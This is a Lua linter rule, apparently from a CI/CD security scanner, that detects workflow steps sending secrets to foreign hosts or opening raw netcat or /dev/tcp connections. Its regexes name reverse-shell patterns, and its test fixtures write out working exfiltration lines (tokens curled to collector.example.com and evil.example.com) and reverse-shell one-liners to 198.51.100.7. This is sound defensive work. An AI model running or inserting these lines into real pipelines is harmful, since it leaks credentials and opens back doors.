local ci = lib "ci"

local HOME = "^(api\\.|uploads\\.|raw\\.)?(github\\.com|githubusercontent\\.com)$|^(localhost|127\\.0\\.0\\.1)$|" ..
  "(^|\\.)gitlab\\.com$|(^|\\.)ghcr\\.io$"
local HOME_VARIABLES = "[$][{]?(GITHUB_API_URL|GITHUB_SERVER_URL|GITHUB_REPOSITORY|CI_API_V4_URL|CI_SERVER_URL|" ..
  "CI_SERVER_HOST|CI_REGISTRY|CI_PROJECT_URL|ACTIONS_ID_TOKEN_REQUEST_URL)|github\\.(api_url|" ..
  "server_url)"
-- What GitLab puts into the environment and is secret.
local GITLAB_SECRET = "[$][{]?(CI_JOB_TOKEN|CI_JOB_JWT(_V[12])?|CI_BUILD_TOKEN|CI_REGISTRY_PASSWORD|CI_DEPLOY_PASSWORD|" ..
  "CI_DEPENDENCY_PROXY_PASSWORD|CI_REPOSITORY_URL)\\b"

-- Names of the environment that hold a secret: { NAME = "secrets.x" }.
local function secret_names(step)
  local names = {}
  local at = step
  while at ~= nil do
    for _, x in ipairs(at.expressions or {}) do
      local name = match(x.at, "^env\\.([A-Za-z0-9_]+)$")
      for _, path in ipairs(name ~= nil and x.flows or {}) do
        if starts(path, "secrets.") or path == "github.token" then names[name] = names[name] or path end
      end
    end
    at = ci.owner(at)
  end
  return names
end

-- The secret that a line hands over, or nil.
local function secret_in(line, names)
  local found = match(line, "[$][{][{][^}]*\\b(secrets\\.[A-Za-z0-9_]+|github\\.token)")
  if found ~= nil then return lower(found) end
  for name, path in pairs(names) do
    if ci.find(line, "[$][{]?" .. name .. "\\b|[$]env:" .. name .. "\\b") then return path end
  end
end

-- The file into which a line writes secrets, or nil.
local function filled_file(line)
  return match(line, "[$][{][{][^}]*\\bsecrets\\b[^}]*[}][}][^|]*>>?\\s*([A-Za-z0-9_./-]+)")
end

-- A secret is meant for the service whose name it bears: SLACK_TOKEN for slack.com.
local function meant_for(secret, host)
  local name = string.gsub(lower(secret), "[^a-z0-9]", "")
  for _, label in ipairs(split(string.gsub(lower(host), "-", "."), ".")) do
    if #label >= 4 and string.find(name, label, 1, true) then return true end
  end
  return false
end

local function allowed(host)
  for _, name in ipairs(list(param("allowed_hosts"))) do
    if host == name or ends(host, "." .. name) then return true end
  end
  return ci.find(host, HOME) ~= nil
end

-- The host that curl or wget talks to: a name, or "?" with what decides; nil when the secret is the address.
local function host_of(line)
  -- Quotes and expressions with blanks would hide where the address begins.
  local host = match(line, "https?://(?:[^/@\\s\"']*@)?([A-Za-z0-9.-]+)(?![A-Za-z0-9.-]*[$])")
  if host ~= nil then return lower(host) end
  if ci.find(line, HOME_VARIABLES) then return "github.com" end
  if ci.find(line, "https?://[$]") then return "?" end
end

local function is_shell(line)
  return ci.find(line, "/dev/(tcp|udp)/") and ci.find(line, "\\b(ba|z|k|da)?sh\\b|exec \\d*<>|>&") or
    ci.find(line, "\\b(nc|ncat|netcat)\\b[^|;]*\\s-(e|c)\\b|\\b(nc|ncat|netcat)\\b[^|;]*\\s-[a-z]*e[a-z]* ?(/bin/)?(ba|z|da)?sh") or
    ci.find(line, "\\b(ba|z|da)?sh\\b[^|;&]*\\|\\s*(nc|ncat|netcat)\\b") or
    (ci.find(line, "\\b(nc|netcat|ncat) (-[a-z]+ )*\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}") and
      not ci.find(line, "\\b(nc|netcat|ncat) (-[a-z0-9]+ )*-[a-y]*z|127\\.0\\.0\\.1"))
end
return rule {
  id = "CICD-007", title = "Step sends secrets or opens a raw connection",
  severity = "high", category = "network",
  aliases = { CKV_GHA_3 = "curl", CKV_GHA_4 = "netcat", CKV_GITLABCI_1 = "gitlab-curl" },
  frameworks = { "NIST-800-53r5:AC-4", "PCI-DSS-4.0:1.3.2", "SOC2:CC6.7", "ISO27001-2022:A.8.12" },
  for_each = "ci.step",
  where = function(e) return e.raw.run ~= nil end,
  description = [[A token that leaves for a host which has no business with it can be used by that host until it expires; a shell at the end of
a raw connection is a back door. GitLab's `CI_…` variables that are no secret, and a secret that is sent to the service whose name it bears
(`SLACK_TOKEN` to slack.com), are not reported, although CKV_GITLABCI_1 and CKV_GHA_3 do so; nor is `nc -z`, which only looks whether a
port is open. Further hosts are named by the parameter `allowed_hosts`.]],
  remediation = [[Send the token of the job to the forge only; take a credential of its own for every other service, or use OIDC. Remove
connections of `nc` and `/dev/tcp`.]],
  references = { "https://docs.github.com/en/actions/reference/security/secure-use" },
  check = function(e)
    local names = ci.github(e) and secret_names(e) or {}
    local open, file
    local failures = each(ci.lines(e), function(line)
      if is_shell(line) then
        return fail(ci.step_name(e) .. " opens a raw connection: " .. ci.shown(line), { at = "run", case = "netcat" })
      end
      file = filled_file(line) or file
      if not ci.find(line, "\\b(curl|wget|Invoke-WebRequest|Invoke-RestMethod)\\b") then return end
      local secret, case = secret_in(line, names), "curl"
      if secret == nil and not ci.github(e) then
        secret, case = ci.find(line, "(" .. GITLAB_SECRET .. ")"), "gitlab-curl"
      end
      local host = host_of(line)
      if file ~= nil and string.find(line, "@" .. file, 1, true) and (host == nil or not allowed(host)) then
        return fail(ci.step_name(e) .. " sends the file " .. file .. ", to which it has written secrets, to " .. (host or "an unknown host"),
          { at = "run", case = case })
      end
      if secret == nil then return end
      if host == "?" then
        open = "which host gets " .. secret .. " is not known"
      elseif host ~= nil and not allowed(host) and not meant_for(secret, host) then
        return fail(ci.step_name(e) .. " sends " .. secret .. " to " .. host, { at = "run", case = case })
      end
    end)
    if #failures == 0 and open ~= nil then unknown(open) end
    return failures
  end,
  tests = {
    fail = { workflow [[
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - id: fire
        run: 'curl -d "token=${{ secrets.DEPLOY_KEY }}" https://collector.example.com/in'
      - id: fire_env
        env: { T: "${{ github.token }}" }
        run: |
          curl \
            -H "x: $T" http://198.51.100.7/
      - id: fire_file
        run: |
          echo "${{ toJSON(secrets) }}" > .secrets
          curl -s --data "@.secrets" "$URL"
      - id: fire_nc
        run: nc -e /bin/bash 198.51.100.7 4444
      - id: fire_tcp
        run: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
]], gitlab [[
fire:
  script:
    - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://evil.example.com/x'
]] },
    pass = { workflow [[
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: 'curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/repos/x/y'
      - run: 'curl -H "Authorization: ${{ secrets.SLACK_TOKEN }}" https://hooks.slack.com/services/x'
      - run: 'curl -X POST ${{ secrets.WEBHOOK_URL }}'
      - run: nc -z 10.0.0.1 5432
]], gitlab [[
dont_fire:
  script:
    - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file x "${CI_API_V4_URL}/projects/1/packages/generic/x"'
    - curl https://example.com/$CI_COMMIT_SHA
]] },
    unknown = { workflow [[
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps: [{ run: 'curl -H "Authorization: ${{ secrets.API_KEY }}" https://${{ vars.HOST }}/x' }]
]] },
  },
}
